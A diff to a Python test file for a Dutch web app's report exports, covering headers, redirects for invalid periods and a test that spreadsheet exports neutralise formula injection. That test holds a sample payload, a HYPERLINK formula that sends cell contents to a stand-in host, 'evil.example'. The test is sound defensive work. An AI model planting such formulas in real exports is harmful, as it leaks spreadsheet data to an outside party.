@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from huiskamer.site.templating import today
 from tests.factories import csrf_token, login_as
 from tests.service.reports_helpers import BIRTHDAYS, NAMES, ReportWorld, add_crowd, build_world
 from tests.web.reports_web_helpers import csv_rows, page_tables, xlsx_sheets
@@ -70,7 +71,7 @@ def test_the_csv_holds_the_figures_of_the_dashboard(admin_client):
     dashboard = page_tables(admin_client.get(f"/rapportage?{YEAR}").text)
     response = admin_client.get(f"/rapportage/export.csv?{YEAR}")
     assert response.status_code == 200
-    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert 'filename="rapportage-2024-01-01-2024-12-31-alle-locaties.csv"' in response.headers["content-disposition"]
     rows = csv_rows(response.content)
     by_table: dict[str, list[str]] = {}
@@ -197,7 +198,42 @@ def test_an_export_of_an_empty_period_still_opens(admin_client):
     assert admin_client.get("/rapportage/export.csv?van=2031-01-01&tot=2031-01-31").status_code == 200
 
 
-def test_an_export_needs_a_valid_period(admin_client):
-    for query in ("", "van=2024-01-01", "van=morgen&tot=2024-12-31", "van=2024-12-31&tot=2024-01-01"):
-        for kind in ("csv", "xlsx", "pdf"):
-            assert admin_client.get(f"/rapportage/export.{kind}?{query}").status_code == 422, (kind, query)
+def test_an_export_of_a_period_that_is_not_one_goes_back_to_the_dashboard_with_what_was_typed(admin_client):
+    for query in ("van=2024-01-01", "van=morgen&tot=2024-12-31", "van=2024-12-31&tot=2024-01-01"):
+        for route in ("export.csv", "export.xlsx", "export.pdf", "afdrukken"):
+            response = admin_client.get(f"/rapportage/{route}?{query}", follow_redirects=False)
+            assert response.status_code == 303, (route, query)
+            assert response.headers["location"] == f"/rapportage?{query}", (route, query)
+    shown = admin_client.get("/rapportage/export.csv?van=morgen&tot=2024-12-31")
+    assert shown.status_code == 422 and 'value="morgen"' in shown.text and "geen geldige datum" in shown.text
+
+
+def test_an_export_without_dates_is_of_this_year_as_the_dashboard(admin_client):
+    year = today().year
+    response = admin_client.get("/rapportage/export.csv")
+    assert response.status_code == 200
+    assert (
+        f'filename="rapportage-{year}-01-01-{year}-12-31-alle-locaties.csv"' in response.headers["content-disposition"]
+    )
+
+
+def test_a_story_typed_as_a_formula_stays_text_in_every_spreadsheet(admin_client):
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Klik hier")'
+    token = csrf_token(admin_client, f"/rapportage?{YEAR}")
+    saved = admin_client.post(
+        "/rapportage/verhaal",
+        data={"_csrf_token": token, "van": "2024-01-01", "tot": "2024-12-31", "text": formula},
+        follow_redirects=False,
+    )
+    assert saved.status_code == 303
+    [story] = [
+        row for row in csv_rows(admin_client.get(f"/rapportage/export.csv?{YEAR}").content) if row["tabel"] == "Verhaal"
+    ]
+    assert story["weergave"] == "'" + formula  # a spreadsheet shows the text, and runs nothing
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(admin_client.get(f"/rapportage/export.xlsx?{YEAR}").content))
+    cell = book["Verhalen"]["C2"]
+    assert cell.value == formula and cell.data_type == "s"
+    assert not [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
